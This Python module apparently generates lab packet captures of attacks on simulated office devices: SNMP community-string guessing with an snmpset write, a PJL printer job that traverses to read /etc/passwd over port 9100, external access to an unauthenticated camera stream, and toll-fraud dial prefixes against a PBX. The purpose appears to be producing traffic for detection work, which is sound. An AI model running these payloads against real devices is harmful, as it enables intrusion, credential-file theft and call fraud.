"""Attacks on office devices: SNMP community guessing and a set request (Net-SNMP), file access on a printer over its
raw port, an external client of an unauthenticated camera stream, dial-out prefixes tried at a PBX (SIPp). Needs snmp,
socat, ffmpeg, sip-tester.

Run it as ``python -m pcaps.lab.attacks.devices [SCENE...]``.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

from pcaps._office_hosts import cameras, printers
from pcaps.lab._lab import Lab, record

ATTACKER, EXTERNAL = "10.20.10.66", "203.0.113.80"
COMMUNITIES = (
    "public",
    "private",
    "cisco",
    "manager",
    "admin",
    "snmp",
    "write",
    "secret",
    "monitor",
    "community",
    "c0mmunity",
)
CONTACT = "1.3.6.1.2.1.1.4.0"
JOB = (
    r'\033%%-12345X@PJL FSDIRLIST NAME="0:/" ENTRY=1 COUNT=64\r\n@PJL FSUPLOAD '
    r'NAME="0:/../../etc/passwd" OFFSET=0 SIZE=4096\r\n\033%%-12345X'
)
NUMBERS = (
    "00441904911024",
    "900441904911024",
    "9011441904911024",
    "011441904911024",
    "+441904911024",
    "000441904911024",
)


def community_guessing(lab: Lab) -> Iterator[None]:
    """The last community of the list is correct."""
    core, attacker = lab.host("core", "10.20.10.2"), lab.host("attacker", ATTACKER)
    lab.serve(core, "agent", "core switch", COMMUNITIES[-1], port=161, proto="udp")
    yield
    for community in COMMUNITIES:
        lab.run(attacker, "snmpget", "-v2c", "-c", community, "-t", "0.3", "-r", "0", core.ip, "1.3.6.1.2.1.1.1.0")
    lab.run(attacker, "snmpset", "-v2c", "-c", COMMUNITIES[-1], "-t", "0.5", "-r", "0", core.ip, CONTACT, "s", "nobody")
    time.sleep(1)


def files(lab: Lab) -> Iterator[None]:
    attacker = lab.host("attacker", ATTACKER)
    yield
    printer = lab.device(printers()[0])
    lab.serve(printer, "printer", port=9100)
    lab.run(attacker, "sh", "-c", f"(printf '{JOB}'; sleep 1) | socat -t 1 - TCP:{printer.ip}:9100")
    time.sleep(1)


def stream(lab: Lab) -> Iterator[None]:
    client = lab.external("watcher", EXTERNAL)
    yield
    camera = lab.device(cameras()[1])
    lab.serve(camera, "stream", port=554)
    lab.run(
        client,
        "ffprobe",
        "-v",
        "error",
        "-rtsp_transport",
        "tcp",
        "-timeout",
        "1500000",
        f"rtsp://{camera.ip}/Streaming/Channels/101",
    )
    time.sleep(1)


def dialling(lab: Lab) -> Iterator[None]:
    """The PBX rejects all prefixes."""
    pbx, caller = lab.host("exchange", "10.20.10.5"), lab.external("caller", EXTERNAL)
    lab.serve(pbx, "registrar", port=5060, proto="udp")
    yield
    for number in NUMBERS:
        lab.run(
            caller,
            "sipp",
            "-sn",
            "uac",
            "-s",
            number,
            "-i",
            EXTERNAL,
            "-m",
            "1",
            "-nostdin",
            "-timeout",
            "3s",
            f"{pbx.ip}:5060",
        )
    time.sleep(1)


if __name__ == "__main__":
    record(
        Path(__file__).parent,
        devices_snmp=community_guessing,
        devices_printer=files,
        devices_camera=stream,
        devices_exchange=dialling,
    )
